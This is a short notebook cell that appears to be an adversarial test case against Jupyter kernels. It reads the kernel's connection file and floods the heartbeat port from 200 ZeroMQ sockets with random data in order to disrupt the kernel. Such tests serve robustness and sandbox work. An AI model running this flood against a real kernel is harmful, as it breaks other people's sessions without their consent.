# ---
# class: forged outputs and messages
# tries: takes the heartbeat's place, stops its echo and floods its port with garbage
# success: any harm
# ---

# %% solution="total"
import json
import os
from pathlib import Path

import zmq
from ipykernel.connect import get_connection_file

info = json.loads(Path(get_connection_file()).read_text())
where = f"{info['transport']}://{info['ip']}{':' if info['transport'] == 'tcp' else '-'}{info['hb_port']}"
context = zmq.Context()
for number in range(200):
    sender = context.socket(zmq.DEALER)
    sender.linger = 0
    sender.connect(where)
    sender.send_multipart([os.urandom(1000)] * 20, flags=zmq.NOBLOCK)
